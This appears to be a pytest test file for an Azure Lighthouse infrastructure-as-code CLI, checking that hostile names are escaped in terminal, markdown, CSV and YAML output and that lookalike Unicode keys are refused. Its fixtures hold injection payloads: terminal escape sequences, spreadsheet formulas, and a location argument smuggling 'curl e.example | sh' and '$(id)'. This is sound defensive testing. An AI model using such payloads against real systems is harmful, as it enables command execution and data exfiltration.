"""Output that others read: names from a pull request are shown as text by every output (issue 9)."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
from pathlib import Path

import pytest
import yaml

from lighthouse_iac.cli import main

from .arm.cases import SUBSCRIPTION, sample_paths
from .projects import BASELINE, STACK, make_project
from .report.scratch import commit, git

# A customer and an offer named by someone who wants the reviewer to see something else.
HOSTILE_CUSTOMER = (
    r'"Evil\e[2J\e]0;pwned\a\rCorp | ![x](https://e.example/x.png) <img src=x> @admin\n# Owner"'
)
HOSTILE_OFFER = r'"=HYPERLINK(\"https://e.example\");-2+3,@SUM(1)\r\n[click](https://e.example)"'
HOSTILE = BASELINE.replace("name: Northwind Traders", f"name: {HOSTILE_CUSTOMER}").replace(
    "name: Fabrikam Managed Operations", f"name: {HOSTILE_OFFER}"
)
CUSTOMER = "Evil\x1b[2J\x1b]0;pwned\x07\rCorp | ![x](https://e.example/x.png) <img src=x> @admin\n# Owner"
OFFER = '=HYPERLINK("https://e.example");-2+3,@SUM(1)\r\n[click](https://e.example)'


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    return make_project(tmp_path, HOSTILE)


def _no_controls(text: str) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", text), repr(text)


def test_plan_shows_control_characters_escaped(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["-C", str(hostile), "plan", STACK]) == 0
    out = capsys.readouterr().out
    _no_controls(out)
    assert r"Customer Evil\x1b[2J\x1b]0;pwned\x07\rCorp" in out
    assert r"@admin\n# Owner (stack northwind)" in out  # one name, one line
    assert not any(line.startswith("# Owner") for line in out.splitlines())


def test_errors_show_control_characters_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = BASELINE.replace("principal: msp-offboarding", r'principal: "nobody\e[8m\rmsp-readers"')
    assert main(["-C", str(make_project(tmp_path, text)), "plan", STACK]) == 2
    err = capsys.readouterr().err
    _no_controls(err)
    assert r"unknown principal 'nobody\x1b[8m\rmsp-readers'" in err


def test_export_readme_and_messages_escape_names(
    hostile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    assert main(["-C", str(hostile), "export", STACK, "-o", str(out)]) == 0
    _no_controls(capsys.readouterr().out)
    readme = (out / "README.md").read_text()
    title = readme.splitlines()[0]
    assert title.startswith("# Azure Lighthouse onboarding: Evil")
    _no_raw_markdown(readme)
    assert "@admin" not in readme  # no mention: a zero-width space follows the @


def test_a_name_that_starts_a_list_item_opens_no_block(tmp_path: Path) -> None:
    # The export README lists offers as `- {name}: ...` and grants as `  - {display name} (group) has ...`.
    text = BASELINE.replace("name: Fabrikam Managed Operations", 'name: "# Owned offer"')
    project = make_project(tmp_path, text)
    directory = (project / "Pulumi.yaml").read_text()
    assert "displayName: Fabrikam Lighthouse Readers" in directory
    (project / "Pulumi.yaml").write_text(
        directory.replace("displayName: Fabrikam Lighthouse Readers", 'displayName: "1. Numbered"', 1)
    )
    assert main(["-C", str(project), "export", STACK, "-o", str(tmp_path / "out")]) == 0
    lines = (tmp_path / "out" / "README.md").read_text().splitlines()
    offers = [line for line in lines if "Owned offer" in line]
    grants = [line for line in lines if "Numbered" in line]
    assert offers and all(line.startswith("- \\# Owned offer") for line in offers), offers
    assert grants and all(line.startswith("  - 1\\. Numbered (group)") for line in grants), grants


def test_export_location_is_a_region_name_only(hostile: Path, tmp_path: Path) -> None:
    for location in ["westeurope; curl e.example | sh", "$(id)", "West Europe", "west-europe", ""]:
        assert (
            main(["-C", str(hostile), "export", STACK, "-o", str(tmp_path / "x"), "--location", location])
            == 2
        )
    assert not (tmp_path / "x").exists()
    assert (
        main(["-C", str(hostile), "export", STACK, "-o", str(tmp_path / "x"), "--location", "eastus2"]) == 0
    )
    readme = (tmp_path / "x" / "README.md").read_text()
    commands = [line for line in readme.splitlines() if line.startswith("az ")]
    assert commands and all(shlex.split(c)[0] == "az" for c in commands)
    deploy = shlex.split(next(c for c in commands if "deployment" in c))
    assert deploy[deploy.index("--location") + 1] == "eastus2"


def test_markdown_report_renders_names_as_text(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["-C", str(hostile), "report"]) == 0
    out = capsys.readouterr().out
    _no_controls(out)
    _no_raw_markdown(out)
    _tables_keep_their_columns(out)


def _no_raw_markdown(text: str) -> None:
    """No image, link, HTML tag, mention or heading made of a name."""
    for raw in [r"!\[x\]\(", r"(?<!\\)<img", r"@admin", r"(?<!\\)\[click", r"\n# Owner"]:
        assert not re.search(raw, text), raw


def _tables_keep_their_columns(out: str) -> None:
    """Every row of a table has as many cells as its header: no name opened a cell."""
    columns = 0
    for line in out.splitlines():
        if not line.startswith("|"):
            columns = 0
            continue
        cells = len(re.findall(r"(?<!\\)\|", line))
        columns = columns or cells
        assert cells == columns, line


def test_pull_request_comment_renders_names_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    without = (
        "        - principal: msp-offboarding\n"
        "          role: Managed Services Registration assignment Delete Role\n"
    )
    assert without in HOSTILE
    repo = make_project(tmp_path, HOSTILE.replace(without, ""))
    git(repo, "init", "-q", "-b", "main")
    commit(repo, "base")
    (repo / "stacks" / f"Pulumi.{STACK}.yaml").write_text(HOSTILE)
    capsys.readouterr()
    assert main(["-C", str(repo), "report", "--diff", "main"]) == 0
    out = capsys.readouterr().out
    _no_controls(out)
    assert "### Gained (" in out
    _no_raw_markdown(out)
    _tables_keep_their_columns(out)


def test_csv_neutralises_formulas_and_quotes_line_breaks(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["-C", str(hostile), "report", "--format", "csv"]) == 0
    text = capsys.readouterr().out
    while text.startswith("# "):  # how the report was made, above the header
        text = text.split("\r\n", 1)[1]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and all(r["customer"] == CUSTOMER for r in rows)
    for row in rows:
        for value in row.values():
            # No cell, and no part of a cell after a separator, starts a formula.
            assert not re.search(r"(^|[,;\t\r\n])[=+\-@]", value), value
    offer_name = rows[0]["offerName"]
    assert offer_name.startswith("'=HYPERLINK") and ";'-2+3,'@SUM(1)" in offer_name
    # Every row is one record: the CR and LF inside values are quoted, so a reader finds the same rows.
    physical = [line for line in text.split("\r\n") if line]
    assert len(rows) < len(physical)
    assert sum(1 for _ in csv.reader(io.StringIO(text, newline=""))) == len(rows) + 1


def _with_principal(project: Path, key: str) -> Path:
    text = (project / "Pulumi.yaml").read_text()
    entry = (
        f"        {key}:\n          objectId: 0b6e4bd1-5a4f-4c4b-9a55-4f4f7a0c2e11\n"
        "          kind: group\n          displayName: Lookalike\n"
    )
    assert text.count("      principals:\n") == 1
    (project / "Pulumi.yaml").write_text(text.replace("      principals:\n", "      principals:\n" + entry))
    return project


@pytest.mark.parametrize(
    ("key", "why"),
    [
        ("msp-r\u0435aders", "mixes letters of several scripts (Cyrillic, Latin)"),  # a Cyrillic ie
        ("msp-re\u0430ders", "mixes letters of several scripts (Cyrillic, Latin)"),  # a Cyrillic a
        ("msp-\u03bfps", "mixes letters of several scripts (Greek, Latin)"),  # a Greek omicron
        ("msp-\uff52eaders", "compatibility characters"),  # a fullwidth r
    ],
)
def test_lookalike_principal_keys_are_refused(
    key: str, why: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = _with_principal(make_project(tmp_path), key)
    assert main(["-C", str(project), "validate"]) == 2
    err = capsys.readouterr().out
    assert f"managingTenant.principals.{key}: '{key}' " in err and why in err


@pytest.mark.parametrize(
    "key", ["msp-night-shift", "équipe-sécurité", "運用チーム", "ops-운영", "группа-админов"]
)
def test_keys_in_one_script_are_accepted(key: str, tmp_path: Path) -> None:
    project = _with_principal(make_project(tmp_path), key)
    assert main(["-C", str(project), "validate"]) == 0


INJECTED = "\nlighthouse-iac:customer: {name: Mallory}\n"


def test_import_writes_values_from_a_template_as_yaml_values_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    template, parameters = sample_paths("subscription")
    assert parameters is not None
    data = json.loads(parameters.read_text())
    data["parameters"]["managedByTenantId"]["value"] = f"<tenant{INJECTED}>"
    data["parameters"]["mspOfferName"]["value"] = f"Offer{INJECTED}# comment"
    for auth in data["parameters"]["authorizations"]["value"]:
        auth["principalIdDisplayName"] = f"Group{INJECTED}\u2028lighthouse-iac:evil: 1"
    hostile = tmp_path / f"params{INJECTED.strip()}.json"
    hostile.write_text(json.dumps(data))
    code = main(
        ["import", str(template), str(hostile), "--customer", "relecloud", "--subscription", SUBSCRIPTION]
    )
    assert code == 1  # placeholders remain
    out = capsys.readouterr().out
    stack_text = out.split("\n# Pulumi.yaml:")[0]
    config = yaml.safe_load(stack_text)["config"]
    assert set(config) == {
        "lighthouse-iac:customer",
        "lighthouse-iac:onboarding",
        "lighthouse-iac:offers",
    }, config
    assert config["lighthouse-iac:customer"]["name"] != "Mallory"
    assert config["lighthouse-iac:offers"][0]["name"] == f"Offer{INJECTED}# comment"
    # Outside the YAML values, every line of the file is a comment written by import.
    body = stack_text.split("\nconfig:\n")[0]
    assert all(line.startswith("#") for line in body.splitlines()[1:]), body
